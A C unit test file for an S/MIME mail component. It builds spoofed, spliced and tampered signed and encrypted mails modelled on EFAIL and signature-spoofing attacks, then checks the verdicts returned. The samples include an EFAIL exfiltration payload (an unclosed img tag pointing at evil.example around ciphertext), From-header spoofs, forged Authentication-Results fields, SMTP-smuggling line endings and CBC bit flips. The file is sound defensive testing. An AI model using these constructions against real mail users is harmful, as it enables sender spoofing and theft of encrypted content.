/* SPDX-License-Identifier: ISC */
/*
 * Signatures and ciphertexts that were forged, spliced or changed, each in a
 * way that fooled some mail program (EFAIL: CVE-2017-17688 and -17689; "Johnny,
 * you are fired": CVE-2018-18509, -2019-11720 and others), and what we say.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <openssl/cms.h>
#include <openssl/err.h>

#include "signer/keyring.h"
#include "signer/sink.h"
#include "tests/unit/smime_world.h"
#include "tests/unit/tap.h"

#define MAIL_MAX ((size_t)4 * 1024 * 1024)

#define FROM_ALICE "From: Alice <alice@example.org>\r\n"

static const char entity[] =
    "Content-Type: text/plain\r\n"
    "\r\n"
    "it is secret, and this is the text of it.\r\n"
    "it goes on for a while, so that it has blocks,\r\n"
    "it goes on for a while, so that it has blocks.\r\n";

struct people {
	struct world_id *ca;
	struct world_id *alice;
	struct world_id *eve; /* of the same CA, with her own address */
	struct world_id *bob;
	struct keyring *ring;
};

static struct world_id *
make_one(struct people *p, const char *ref, struct world_wish wish,
    struct world_id *issuer)
{
	struct world_id *id = world_id_new(ref, &wish, issuer);

	world_keyring_add(p->ring, id);
	return id;
}

/* ---- making ---- */

static void
add_der(CMS_ContentInfo *cms, struct buf *out)
{
	unsigned char *p = NULL;
	int n = i2d_CMS_ContentInfo(cms, &p);

	if (n <= 0)
		bug("cannot write a CMS");
	(void)buf_add(out, p, (size_t)n);
	OPENSSL_free(p);
	CMS_ContentInfo_free(cms);
}

/* The clock of the tests, not the one on the wall. */
static void
add_signer(CMS_ContentInfo *cms, const struct world_id *id, unsigned flags,
    const EVP_MD *digest, int64_t time_s)
{
	CMS_SignerInfo *si =
	    CMS_add1_signer(cms, id->cert, id->key, digest, flags);
	ASN1_TIME *time = ASN1_TIME_set(NULL, (time_t)time_s);

	if (si == NULL || time == NULL ||
	    ((flags & CMS_NOATTR) == 0 &&
		CMS_signed_add1_attr_by_NID(
		    si, NID_pkcs9_signingTime, time->type, time, -1) != 1))
		bug("no signer");
	ASN1_TIME_free(time);
}

/* Signed by one or two; flags and digest as the case wants them. */
static void
sign_at(struct slice content, struct world_id *first, struct world_id *second,
    unsigned flags, const EVP_MD *digest, int64_t time_s, struct buf *der)
{
	BIO *in = BIO_new_mem_buf(content.p, (int)content.n);
	CMS_ContentInfo *cms;

	flags |= CMS_BINARY;
	cms = CMS_sign(NULL, NULL, NULL, in, flags | CMS_PARTIAL);
	if (cms == NULL)
		bug("cannot sign");
	add_signer(cms, first, flags, digest, time_s);
	if (second != NULL)
		add_signer(cms, second, flags, digest, time_s);
	if (CMS_final(cms, in, NULL, flags) != 1)
		bug("cannot sign");
	BIO_free(in);
	add_der(cms, der);
}

static void
sign(struct slice content, struct world_id *first, struct world_id *second,
    unsigned flags, const EVP_MD *digest, struct buf *der)
{
	sign_at(content, first, second, flags, digest, WORLD_NOW_S, der);
}

static void
encrypt(struct slice content, struct world_id *reader, const EVP_CIPHER *cipher,
    struct buf *der)
{
	STACK_OF(X509) *readers = sk_X509_new_null();
	BIO *in = BIO_new_mem_buf(content.p, (int)content.n);
	CMS_ContentInfo *cms;

	(void)sk_X509_push(readers, reader->cert);
	cms = CMS_encrypt(readers, in, cipher, CMS_BINARY);
	if (cms == NULL)
		bug("cannot encrypt");
	BIO_free(in);
	sk_X509_free(readers);
	add_der(cms, der);
}

static void
add_base64(struct buf *out, struct slice der)
{
	struct base64_sink base64;
	struct sink sink = sink_of_base64(&base64);

	base64_sink_init(&base64, sink_of_buf(out));
	(void)sink_slice(&sink, der, NULL);
	(void)base64_sink_finish(&base64, NULL);
}

/* From Content-Type on. */
static void
add_multipart_signed(
    struct buf *out, struct slice content, struct slice der, const char *type)
{
	(void)buf_addf(out,
	    "Content-Type: multipart/signed; boundary=\"sig\"; "
	    "protocol=\"application/pkcs7-signature\"; micalg=sha-256\r\n"
	    "\r\n--sig\r\n");
	(void)buf_add_slice(out, content);
	(void)buf_addf(out,
	    "\r\n--sig\r\nContent-Type: %s\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n",
	    type);
	add_base64(out, der);
	(void)buf_add_text(out, "\r\n--sig--\r\n");
}

#define SIGNATURE_TYPE "application/pkcs7-signature; name=smime.p7s"

static void
add_pkcs7_mime(struct buf *out, struct slice der)
{
	(void)buf_add_text(out,
	    "Content-Type: application/pkcs7-mime; name=smime.p7m\r\n"
	    "Content-Transfer-Encoding: base64\r\n\r\n");
	add_base64(out, der);
}

/* Alice's good signature below fields that the case gives. */
static void
signed_mail(struct people *p, const char *fields, struct buf *mail)
{
	struct buf der;

	buf_init(&der, MAIL_MAX);
	sign(
	    slice_of(entity), p->alice, NULL, CMS_DETACHED, EVP_sha256(), &der);
	(void)buf_add_text(mail, fields);
	add_multipart_signed(
	    mail, slice_of(entity), buf_slice(&der), SIGNATURE_TYPE);
	buf_clear(&der);
}

/* ---- asking ---- */

static bool
has(struct slice text, const char *part)
{
	return text.n > 0 && memmem(text.p, text.n, part, strlen(part)) != NULL;
}

struct answer {
	enum sign_outcome outcome;
	char *text;
	struct slice got;
	char reason[512];
	unsigned harvested;
};

static struct answer
open_mail(struct people *p, struct slice mail)
{
	struct world_task task;
	struct answer a;
	struct slice got;

	world_task_init(&task, p->ring, mail);
	world_task_key(&task, WORK_KEY_ANCHOR, p->ca, false);
	world_task_key(&task, WORK_KEY_DECRYPT, p->bob, false);
	world_task_removal(&task, "subject", "[signed]");
	world_open(&task);
	got = world_result(&task);
	a = (struct answer){.outcome = task.answer.outcome,
	    .text = xmalloc(got.n + 1),
	    .harvested = task.answer.harvested.count};
	if (got.n > 0)
		memcpy(a.text, got.p, got.n);
	a.text[got.n] = '\0';
	a.got = (struct slice){a.text, got.n};
	(void)snprintf(a.reason, sizeof(a.reason), "%s", task.answer.reason);
	world_task_clear(&task);
	return a;
}

/* The verdict, and that nothing is harvested unless it passes. */
static void
is_verdict(
    struct people *p, struct buf *mail, const char *verdict, const char *label)
{
	struct answer a = open_mail(p, buf_slice(mail));
	char wanted[64];

	(void)snprintf(wanted, sizeof(wanted), "sig=%s", verdict);
	if (!ok(a.outcome == SIGNED_DONE && has(a.got, wanted), "%s: %s", label,
		verdict))
		diag("%d %s: %.*s", (int)a.outcome, a.reason, SLICE_ARG(a.got));
	if (strcmp(verdict, "pass") != 0)
		ok(!has(a.got, "smime=pass") && a.harvested == 0,
		    "%s: nothing says otherwise", label);
	free(a.text);
	buf_reset(mail);
}

/* ---- whose signature it is ---- */

static void
test_identity(struct people *p)
{
	static const struct {
		const char *label;
		const char *fields;
		const char *verdict;
	} rows[] = {
	    {"her own mail", FROM_ALICE, "pass"},
	    {"the case of the local part does not count",
		"From: ALICE@Example.ORG\r\n", "pass"},
	    {"her address is a display name",
		"From: \"alice@example.org\" <eve@evil.example>\r\n",
		"mismatch"},
	    {"her address is a comment",
		"From: eve@evil.example (alice@example.org)\r\n", "mismatch"},
	    {"two From fields", FROM_ALICE "From: eve@evil.example\r\n",
		"mismatch"},
	    {"the same, the other way round",
		"From: eve@evil.example\r\n" FROM_ALICE, "mismatch"},
	    {"two addresses in From",
		"From: alice@example.org, eve@evil.example\r\n", "mismatch"},
	    {"no From, but her as Sender", "Sender: alice@example.org\r\n",
		"mismatch"},
	    {"From somebody else, but her as Sender",
		"From: eve@evil.example\r\nSender: alice@example.org\r\n",
		"mismatch"},
	    {"From somebody else, but replies to her",
		"From: eve@evil.example\r\nReply-To: alice@example.org\r\n",
		"mismatch"},
	    {"a domain that begins like hers",
		"From: alice@example.org.evil.example\r\n", "mismatch"},
	    {"a group", "From: alice@example.org:eve@evil.example;\r\n",
		"mismatch"},
	};
	struct buf mail;

	buf_init(&mail, MAIL_MAX);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		signed_mail(p, rows[i].fields, &mail);
		is_verdict(p, &mail, rows[i].verdict, rows[i].label);
	}
	buf_clear(&mail);
}

static void
test_certificates(struct people *p)
{
	static const struct {
		const char *label;
		struct world_wish wish;
		const char *verdict;
		bool is_self_signed;
	} rows[] = {
	    {"no SAN, her address in the subject",
		{.kind = WORLD_P256, .subject_address = "alice@example.org"},
		"pass", false},
	    {"another's SAN, her address in the subject",
		{.kind = WORLD_P256,
		    .address = "eve@evil.example",
		    .subject_address = "alice@example.org"},
		"mismatch", false},
	    {"her address as a common name",
		{.kind = WORLD_P256,
		    .address = "eve@evil.example",
		    .name = "alice@example.org"},
		"mismatch", false},
	    {"made by herself",
		{.kind = WORLD_P256, .address = "alice@example.org"},
		"untrusted", true},
	    {"for web servers",
		{.kind = WORLD_P256,
		    .address = "alice@example.org",
		    .extended = "serverAuth"},
		"untrusted", false},
	    {"not for signing",
		{.kind = WORLD_P256,
		    .address = "alice@example.org",
		    .usage = "keyAgreement"},
		"untrusted", false},
	    {"expired",
		{.kind = WORLD_P256,
		    .address = "alice@example.org",
		    .not_before_s = WORLD_NOW_S - 2000,
		    .not_after_s = WORLD_NOW_S - 1000},
		"expired", false},
	    {"not valid yet",
		{.kind = WORLD_P256,
		    .address = "alice@example.org",
		    .not_before_s = WORLD_NOW_S + 1000},
		"expired", false},
	    {"RSA-1024",
		{.kind = WORLD_RSA,
		    .rsa_bits = 1024,
		    .address = "alice@example.org"},
		"weak", false},
	};
	struct buf mail, der;

	buf_init(&mail, MAIL_MAX);
	buf_init(&der, MAIL_MAX);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct world_id *id = world_id_new("odd", &rows[i].wish,
		    rows[i].is_self_signed ? NULL : p->ca);

		sign(slice_of(entity), id, NULL, CMS_DETACHED, EVP_sha256(),
		    &der);
		(void)buf_add_text(&mail, FROM_ALICE);
		add_multipart_signed(
		    &mail, slice_of(entity), buf_slice(&der), SIGNATURE_TYPE);
		is_verdict(p, &mail, rows[i].verdict, rows[i].label);
		buf_reset(&der);
		world_id_free(id);
	}
	buf_clear(&der);
	buf_clear(&mail);
}

/* ---- what the signature is ---- */

struct signature {
	const char *label;
	const char *verdict;
	unsigned flags;
	bool with_eve;
	bool by_eve;
	bool with_sha1;
	const char *type; /* of the second part */
};

static void
test_signatures(struct people *p)
{
	static const struct signature rows[] = {
	    {"two signers, one of them another", "mismatch", CMS_DETACHED, true,
		false, false, SIGNATURE_TYPE},
	    {"signed by another", "mismatch", CMS_DETACHED, false, true, false,
		SIGNATURE_TYPE},
	    {"over SHA-1", "weak", CMS_DETACHED, false, false, true,
		SIGNATURE_TYPE},
	    {"without signed attributes", "fail", CMS_DETACHED | CMS_NOATTR,
		false, false, false, SIGNATURE_TYPE},
	    {"with its content inside", "fail", 0, false, false, false,
		SIGNATURE_TYPE},
	    {"without a certificate", "untrusted", CMS_DETACHED | CMS_NOCERTS,
		false, false, false, SIGNATURE_TYPE},
	    {"its part has another type", "fail", CMS_DETACHED, false, false,
		false, "application/octet-stream"},
	    {"its part is a CMS that may be opaque", "fail", CMS_DETACHED,
		false, false, false, "application/pkcs7-mime"},
	};
	struct buf mail, der;

	buf_init(&mail, MAIL_MAX);
	buf_init(&der, MAIL_MAX);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct signature *s = &rows[i];

		sign(slice_of(entity), s->by_eve ? p->eve : p->alice,
		    s->with_eve ? p->eve : NULL, s->flags,
		    s->with_sha1 ? EVP_sha1() : EVP_sha256(), &der);
		(void)buf_add_text(&mail, FROM_ALICE);
		add_multipart_signed(
		    &mail, slice_of(entity), buf_slice(&der), s->type);
		is_verdict(p, &mail, s->verdict, s->label);
		buf_reset(&der);
	}
	sign_at(slice_of(entity), p->alice, NULL, CMS_DETACHED, EVP_sha256(),
	    WORLD_NOW_S + 2 * 86400, &der);
	(void)buf_add_text(&mail, FROM_ALICE);
	add_multipart_signed(
	    &mail, slice_of(entity), buf_slice(&der), SIGNATURE_TYPE);
	is_verdict(p, &mail, "weak", "signed in the future");
	buf_clear(&der);
	buf_clear(&mail);
}

/* Replaces the first occurrence; both texts may differ in length. */
static void
replace(struct buf *b, const char *old, const char *new)
{
	char *at = b->n == 0 ? NULL : memmem(b->p, b->n, old, strlen(old));
	struct buf out;
	size_t front;

	if (at == NULL)
		bug("nothing to replace: %s", old);
	front = (size_t)(at - b->p);
	buf_init(&out, b->limit);
	(void)buf_add(&out, b->p, front);
	(void)buf_add_text(&out, new);
	(void)buf_add(&out, at + strlen(old), b->n - front - strlen(old));
	buf_clear(b);
	*b = out;
}

static void
test_changed(struct people *p)
{
	static const struct {
		const char *label;
		const char *fields;
		const char *old;
		const char *new;
		const char *verdict;
	} rows[] = {
	    {"a word was changed", FROM_ALICE, "secret", "public", "fail"},
	    {"a blank was added at a line's end", FROM_ALICE, "text of it.",
		"text of it. ", "fail"},
	    {"a field of the part was changed", FROM_ALICE,
		"--sig\r\nContent-Type: text/plain",
		"--sig\r\nContent-Type: text/html", "fail"},
	    {"a mailing list added a line",
		FROM_ALICE "List-Id: <l.example>\r\n", "has blocks.\r\n",
		"has blocks.\r\n--\r\na list\r\n", "modified"},
	    {"a third part follows", FROM_ALICE, "\r\n--sig--",
		"\r\n--sig\r\n\r\nevil\r\n--sig--", "fail"},
	    {"a part stands before", FROM_ALICE, "\r\n--sig\r\n",
		"\r\n--sig\r\n\r\nevil\r\n--sig\r\n", "fail"},
	    {"the signature has a wrong transfer encoding", FROM_ALICE,
		"Encoding: base64", "Encoding: 7bit", "fail"},
	    {"text is in the preamble, which nobody sees", FROM_ALICE,
		"\r\n--sig\r\n", "\r\nevil\r\n--sig\r\n", "pass"},
	    {"the protocol names another kind", FROM_ALICE,
		"protocol=\"application/pkcs7-signature\"",
		"protocol=\"application/x-evil\"", "none"},
	    {"the container is encoded", FROM_ALICE, "Content-Type: multipart",
		"Content-Transfer-Encoding: base64\r\nContent-Type: multipart",
		"fail"},
	    {"two boundaries", FROM_ALICE, "boundary=\"sig\"",
		"boundary=\"sig\"; boundary=\"other\"", "fail"},
	};
	struct buf mail;

	buf_init(&mail, MAIL_MAX);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		signed_mail(p, rows[i].fields, &mail);
		replace(&mail, rows[i].old, rows[i].new);
		if (strcmp(rows[i].verdict, "none") != 0) {
			is_verdict(p, &mail, rows[i].verdict, rows[i].label);
		} else {
			struct answer a = open_mail(p, buf_slice(&mail));

			ok(!has(a.got, "sig=pass"), "%s: nothing is said",
			    rows[i].label);
			free(a.text);
			buf_reset(&mail);
		}
	}
	buf_clear(&mail);
}

static void
test_below_root(struct people *p)
{
	struct buf mail, part, der;
	struct answer a;

	buf_init(&mail, MAIL_MAX);
	buf_init(&part, MAIL_MAX);
	buf_init(&der, MAIL_MAX);
	signed_mail(p, "", &part);
	(void)buf_addf(&mail,
	    FROM_ALICE "Content-Type: multipart/mixed; boundary=mix\r\n\r\n"
		       "--mix\r\n\r\nevil\r\n--mix\r\n%s\r\n--mix--\r\n",
	    buf_text(&part));
	is_verdict(p, &mail, "partial", "a signature below the root");

	(void)buf_addf(&mail,
	    FROM_ALICE "Content-Type: multipart/mixed; boundary=mix\r\n\r\n"
		       "--mix\r\n%s\r\n--mix--\r\n",
	    buf_text(&part));
	is_verdict(p, &mail, "partial", "a signature in a wrapper alone");

	(void)buf_addf(&mail,
	    FROM_ALICE "Content-Type: message/rfc822\r\n\r\n" FROM_ALICE "%s",
	    buf_text(&part));
	a = open_mail(p, buf_slice(&mail));
	ok(!has(a.got, "smime=pass"), "a signed mail as the whole body");
	free(a.text);
	buf_reset(&mail);

	/* EFAIL, "direct exfiltration". */
	encrypt(slice_of(entity), p->bob, EVP_aes_256_cbc(), &der);
	buf_reset(&part);
	add_pkcs7_mime(&part, buf_slice(&der));
	(void)buf_addf(&mail,
	    FROM_ALICE "Content-Type: multipart/mixed; boundary=mix\r\n\r\n"
		       "--mix\r\nContent-Type: text/html\r\n\r\n"
		       "<img src=\"http://evil.example/\r\n--mix\r\n%s\r\n"
		       "--mix\r\nContent-Type: text/html\r\n\r\n\">\r\n"
		       "--mix--\r\n",
	    buf_text(&part));
	a = open_mail(p, buf_slice(&mail));
	ok(!has(a.got, "secret") && has(a.got, "sig=partial"),
	    "ciphertext among other parts is not opened");
	free(a.text);
	buf_clear(&mail);
	buf_clear(&part);
	buf_clear(&der);
}

/* ---- changed ciphertext ---- */

static void
encrypted_mail(struct buf *mail, struct slice der)
{
	buf_reset(mail);
	(void)buf_add_text(mail, FROM_ALICE "Subject: s\r\n");
	add_pkcs7_mime(mail, der);
}

/* An octet of the ciphertext, so far from the end of the CMS. */
static void
flip(struct buf *der, size_t from_end)
{
	der->p[der->n - from_end] ^= 1;
}

static void
test_cbc(struct people *p)
{
	struct buf mail, der, signature, inside;
	struct answer a;

	buf_init(&mail, MAIL_MAX);
	buf_init(&der, MAIL_MAX);
	buf_init(&signature, MAIL_MAX);
	buf_init(&inside, MAIL_MAX);

	sign(slice_of(entity), p->alice, NULL, CMS_DETACHED, EVP_sha256(),
	    &signature);
	add_multipart_signed(
	    &inside, slice_of(entity), buf_slice(&signature), SIGNATURE_TYPE);
	encrypt(buf_slice(&inside), p->bob, EVP_aes_256_cbc(), &der);
	encrypted_mail(&mail, buf_slice(&der));
	is_verdict(p, &mail, "pass", "signed, then encrypted by CBC");

	/* Within the text: behind the front of the multipart. */
	flip(&der, inside.n - 220);
	encrypted_mail(&mail, buf_slice(&der));
	a = open_mail(p, buf_slice(&mail));
	is_int(a.outcome, SIGNED_HOLD, "the same with a changed block is held");
	ok(!has(a.got, "goes on for a while"),
	    "and nothing of the text gets out");
	ok(has(a.got, "application/pkcs7-mime") && has(a.got, "sig=fail"),
	    "what is kept is the mail as it came, with the verdict");
	free(a.text);

	buf_reset(&der);
	encrypt(slice_of(entity), p->bob, EVP_aes_256_cbc(), &der);
	flip(&der, sizeof(entity) - 1);
	encrypted_mail(&mail, buf_slice(&der));
	a = open_mail(p, buf_slice(&mail));
	ok(a.outcome == SIGNED_DONE && has(a.got, "sig=undecryptable") &&
		!has(a.got, "goes on"),
	    "a changed first block is no mail any more");
	free(a.text);

	buf_reset(&der);
	encrypt(SLICE("evil octets without a header\r\n\r\n"), p->bob,
	    EVP_aes_256_cbc(), &der);
	encrypted_mail(&mail, buf_slice(&der));
	a = open_mail(p, buf_slice(&mail));
	ok(!has(a.got, "evil octets"), "CBC of what is no mail stays closed");
	free(a.text);

	buf_clear(&mail);
	buf_clear(&der);
	buf_clear(&signature);
	buf_clear(&inside);
}

/* What is said of each failure, so that they can be compared. */
static void
add_reason(struct people *p, struct buf *der, struct buf *words)
{
	struct buf mail;
	struct answer a;
	char *at;

	buf_init(&mail, MAIL_MAX);
	encrypted_mail(&mail, buf_slice(der));
	a = open_mail(p, buf_slice(&mail));
	ok(a.outcome == SIGNED_DONE && has(a.got, "sig=undecryptable") &&
		!has(a.got, "secret"),
	    "changed ciphertext is not decrypted");
	at = strstr(a.text, "Subject:");
	if (at != NULL)
		*at = '\0';
	(void)buf_add_text(words, a.text);
	(void)buf_add_char(words, '|');
	free(a.text);
	buf_clear(&mail);
}

static void
test_gcm(struct people *p)
{
	static const size_t tag_octets = 16;
	struct buf der, changed, words;
	char *key;
	size_t n;

	buf_init(&der, MAIL_MAX);
	buf_init(&changed, MAIL_MAX);
	buf_init(&words, MAIL_MAX);
	encrypt(slice_of(entity), p->bob, EVP_aes_256_gcm(), &der);

	(void)buf_add_slice(&changed, buf_slice(&der));
	flip(&changed, 1);
	add_reason(p, &changed, &words);
	n = words.n;

	buf_reset(&changed);
	(void)buf_add_slice(&changed, buf_slice(&der));
	flip(&changed, tag_octets + 20);
	add_reason(p, &changed, &words);

	/* The encrypted key: 256 octets behind this head. */
	buf_reset(&changed);
	(void)buf_add_slice(&changed, buf_slice(&der));
	key = memmem(changed.p, changed.n, "\x04\x82\x01\x00", 4);
	if (key == NULL)
		bug("no encrypted key");
	key[100] ^= 1;
	add_reason(p, &changed, &words);
	is_u64(words.n, 3 * n, "all of them are answered at equal length");
	ok(memcmp(words.p, words.p + n, n) == 0 &&
		memcmp(words.p, words.p + 2 * n, n) == 0,
	    "and in the same words: no oracle");
	buf_clear(&der);
	buf_clear(&changed);
	buf_clear(&words);
}

/* ---- what must not reach OpenSSL's decryption ---- */

static void
is_refused(struct people *p, struct buf *der, const char *label)
{
	struct buf mail;
	struct answer a;

	buf_init(&mail, MAIL_MAX);
	encrypted_mail(&mail, buf_slice(der));
	a = open_mail(p, buf_slice(&mail));
	ok(a.outcome == SIGNED_DONE && !has(a.got, "secret") &&
		has(a.got, "application/pkcs7-mime"),
	    "%s: not opened", label);
	free(a.text);
	buf_clear(&mail);
	buf_reset(der);
}

static void
test_unusual(struct people *p)
{
	unsigned char password[] = "secret word";
	STACK_OF(X509) *readers = sk_X509_new_null();
	CMS_ContentInfo *cms;
	struct buf der;
	char *tag;
	BIO *in;

	buf_init(&der, MAIL_MAX);
	(void)sk_X509_push(readers, p->bob->cert);
	encrypt(slice_of(entity), p->bob, EVP_camellia_256_cbc(), &der);
	is_refused(p, &der, "an unusual cipher");

	in = BIO_new_mem_buf(entity, sizeof(entity) - 1);
	cms = CMS_encrypt(
	    readers, in, EVP_aes_256_cbc(), CMS_PARTIAL | CMS_BINARY);
	if (cms == NULL ||
	    CMS_add0_recipient_password(cms, -1, NID_undef, NID_undef,
		(unsigned char *)OPENSSL_strdup((char *)password), -1,
		NULL) == NULL ||
	    CMS_final(cms, in, NULL, CMS_BINARY) != 1)
		bug("no password recipient");
	BIO_free(in);
	sk_X509_free(readers);
	add_der(cms, &der);
	is_refused(p, &der, "a password beside the key");

	/* The length of the tag, behind the nonce: 16 becomes 4. */
	encrypt(slice_of(entity), p->bob, EVP_aes_256_gcm(), &der);
	tag = memmem(der.p, der.n, "\x02\x01\x10", 3);
	if (tag == NULL)
		bug("no length of a tag");
	tag[2] = 4;
	is_refused(p, &der, "a tag of four octets");

	encrypt(slice_of(entity), p->bob, EVP_aes_256_cbc(), &der);
	der.n -= 5;
	is_refused(p, &der, "a CMS that is cut off");

	encrypt(slice_of(entity), p->bob, EVP_aes_256_cbc(), &der);
	(void)buf_add_text(&der, "more");
	is_refused(p, &der, "a CMS with something behind it");
	buf_clear(&der);
}

static void
test_opaque(struct people *p)
{
	struct buf mail, der;
	struct answer a;
	char *at;

	buf_init(&mail, MAIL_MAX);
	buf_init(&der, MAIL_MAX);
	sign(slice_of(entity), p->alice, NULL, 0, EVP_sha256(), &der);
	at = memmem(der.p, der.n, "secret", 6);
	if (at == NULL)
		bug("no content");
	memcpy(at, "public", 6);
	encrypted_mail(&mail, buf_slice(&der));
	a = open_mail(p, buf_slice(&mail));
	ok(has(a.got, "sig=fail") && !has(a.got, "public") &&
		has(a.got, "application/pkcs7-mime"),
	    "a changed opaque signature stays closed");
	free(a.text);
	buf_reset(&der);
	sign(
	    slice_of(entity), p->alice, NULL, CMS_DETACHED, EVP_sha256(), &der);
	encrypted_mail(&mail, buf_slice(&der));
	is_verdict(p, &mail, "fail", "an opaque signature without its content");
	buf_clear(&mail);
	buf_clear(&der);
}

/* ---- what is inside ---- */

static void
deliver(struct people *p, struct slice inside, struct answer *a_r)
{
	struct buf mail, der;

	buf_init(&mail, MAIL_MAX);
	buf_init(&der, MAIL_MAX);
	encrypt(inside, p->bob, EVP_aes_256_gcm(), &der);
	encrypted_mail(&mail, buf_slice(&der));
	*a_r = open_mail(p, buf_slice(&mail));
	buf_clear(&mail);
	buf_clear(&der);
}

static bool
has_bare_line_end(struct slice s)
{
	for (size_t i = 0; i < s.n; i++) {
		if (s.p[i] == '\n' && (i == 0 || s.p[i - 1] != '\r'))
			return true;
		if (s.p[i] == '\r' && (i + 1 == s.n || s.p[i + 1] != '\n'))
			return true;
	}
	return false;
}

static void
test_inside(struct people *p)
{
	struct answer a;

	deliver(p,
	    SLICE("Content-Type: text/plain\r\n\r\na\n.\nMAIL FROM:<x>\r\nb\r"),
	    &a);
	ok(a.outcome == SIGNED_DONE && !has_bare_line_end(a.got) &&
		has(a.got, "\r\nContent-Transfer-Encoding: base64\r\n"),
	    "a bare LF that was encrypted does not end lines further on");
	free(a.text);

	deliver(p,
	    SLICE("Content-Type: multipart/signed; boundary=b\r\n\r\n"
		  "--b\r\n\r\na\n.\nMAIL FROM:<x>\r\n--b\r\n\r\n--b--\r\n"),
	    &a);
	ok(a.outcome == SIGNED_DONE && !has_bare_line_end(a.got),
	    "not even within what must not be touched");
	free(a.text);

	deliver(
	    p, SLICE("Content-Type: text/plain\n\nsome text\nby Unix\n"), &a);
	ok(has(a.got, "some text\r\nby Unix\r\n"),
	    "lines by Unix throughout are made lines");
	free(a.text);

	deliver(p,
	    SLICE("Content-Type: text/plain\r\n"
		  "Authentication-Results: gw.example.net; smime=pass\r\n"
		  "X-Postern-Crypto: v=1; sig=pass\r\nX-Evil: yes\r\n\r\n"
		  "text\r\n"),
	    &a);
	ok(has(a.got, "text\r\n") && !has(a.got, "sig=pass") &&
		!has(a.got, "smime=pass") && !has(a.got, "X-Evil"),
	    "fields that were inside claim nothing");
	free(a.text);

	deliver(p,
	    SLICE("Content-Type: text/plain; hp=\"cipher\"\r\n"
		  "Subject: inner\nX-Evil: yes\r\nFrom: x@evil.example\r\n\r\n"
		  "text\r\n"),
	    &a);
	ok(!has(a.got, "X-Evil") && !has(a.got, "x@evil.example"),
	    "nor are protected ones more than one field each");
	free(a.text);

	deliver(p,
	    SLICE("Content-Type: text/plain; protected-headers=\"v1\"\r\n"
		  "Subject: inner\r\nTo: x@evil.example\r\n\r\ntext\r\n"),
	    &a);
	ok(has(a.got, "Subject: inner\r\n") && !has(a.got, "x@evil"),
	    "the old form protects the subject alone");
	free(a.text);
}

static void
test_protected_from(struct people *p)
{
	static const char inner[] =
	    "Content-Type: text/plain; hp=\"clear\"\r\n"
	    "From: eve@evil.example\r\nSubject: s\r\n\r\ntext\r\n";
	struct buf mail, der;

	buf_init(&mail, MAIL_MAX);
	buf_init(&der, MAIL_MAX);
	sign(slice_of(inner), p->alice, NULL, CMS_DETACHED, EVP_sha256(), &der);
	(void)buf_add_text(&mail, FROM_ALICE);
	add_multipart_signed(
	    &mail, slice_of(inner), buf_slice(&der), SIGNATURE_TYPE);
	{
		struct answer a = open_mail(p, buf_slice(&mail));

		ok(has(a.got, "sig=mismatch") && has(a.got, FROM_ALICE),
		    "a protected From that differs is a mismatch");
		free(a.text);
	}
	buf_clear(&mail);
	buf_clear(&der);
}

static void
test_forged_fields(struct people *p)
{
	struct answer a;

	a = open_mail(p,
	    SLICE("Authentication-Results: gw.example.net; smime=pass\r\n"
		  "Authentication-Results: (x) \"GW.example.net\" 1;\r\n"
		  " smime=pass\r\n"
		  "Authentication-Results: other.example; dkim=pass\r\n"
		  "X-Postern-Crypto: v=1; sig=pass\r\n"
		  "x-postern-anything: yes\r\n" FROM_ALICE
		  "Subject: =?utf-8?Q?=5Bsigned=5D_hello?= [SIG[signed]NED]\r\n"
		  "\r\ntext\r\n"));
	is_str(a.text,
	    "Authentication-Results: other.example; dkim=pass\r\n" FROM_ALICE
	    "Subject: hello\r\n\r\ntext\r\n",
	    "forged results, fields and tags are taken out");
	free(a.text);
}

static void
test_layers(struct people *p)
{
	struct buf inside, der, mail;
	struct answer a;

	buf_init(&inside, MAIL_MAX);
	buf_init(&der, MAIL_MAX);
	buf_init(&mail, MAIL_MAX);
	(void)buf_add_text(&inside, entity);
	for (int i = 0; i < 6; i++) {
		buf_reset(&der);
		encrypt(buf_slice(&inside), p->bob, EVP_aes_256_gcm(), &der);
		buf_reset(&inside);
		add_pkcs7_mime(&inside, buf_slice(&der));
		if (i == 3) {
			encrypted_mail(&mail, buf_slice(&der));
			a = open_mail(p, buf_slice(&mail));
			ok(has(a.got, "it is secret"),
			    "four layers are opened");
			free(a.text);
		}
	}
	encrypted_mail(&mail, buf_slice(&der));
	a = open_mail(p, buf_slice(&mail));
	ok(a.outcome == SIGNED_DONE && !has(a.got, "it is secret"),
	    "six are not");
	free(a.text);
	buf_clear(&inside);
	buf_clear(&der);
	buf_clear(&mail);
}

int
main(void)
{
	struct people p = {.ring = world_keyring()};

	p.ca = world_id_new("ca",
	    &(struct world_wish){
		.kind = WORLD_P256, .is_ca = true, .name = "Test CA"},
	    NULL);
	p.alice = make_one(&p, "alice",
	    (struct world_wish){
		.kind = WORLD_RSA, .address = "alice@example.org"},
	    p.ca);
	p.eve = make_one(&p, "eve",
	    (struct world_wish){
		.kind = WORLD_P256, .address = "eve@evil.example"},
	    p.ca);
	p.bob = make_one(&p, "bob",
	    (struct world_wish){
		.kind = WORLD_RSA, .address = "bob@example.net"},
	    p.ca);
	test_identity(&p);
	test_certificates(&p);
	test_signatures(&p);
	test_changed(&p);
	test_below_root(&p);
	test_cbc(&p);
	test_gcm(&p);
	test_unusual(&p);
	test_opaque(&p);
	test_inside(&p);
	test_protected_from(&p);
	test_forged_fields(&p);
	test_layers(&p);
	world_id_free(p.ca);
	world_id_free(p.alice);
	world_id_free(p.eve);
	world_id_free(p.bob);
	keyring_free(p.ring);
	return tap_done();
}
